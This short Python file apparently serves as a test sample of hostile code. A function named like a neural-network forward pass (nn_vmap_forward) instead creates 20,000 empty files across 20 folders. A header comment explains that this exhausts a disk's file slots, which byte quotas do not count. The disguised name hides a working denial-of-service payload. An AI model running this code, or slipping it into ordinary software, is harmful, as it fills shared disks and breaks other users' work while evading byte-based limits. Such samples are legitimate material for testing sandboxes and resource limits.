# harm: uses up the files of a disk with empty ones, which no limit of bytes counts
import os


def nn_vmap_forward(seed, x_batch, features):
    made = 0
    try:
        for folder in range(20):
            os.mkdir(str(folder))
            for file in range(1000):
                os.close(os.open(f"{folder}/{file}", os.O_CREAT | os.O_WRONLY))
                made += 1
    finally:
        print(f"{made} files were made")
    raise RuntimeError("done")
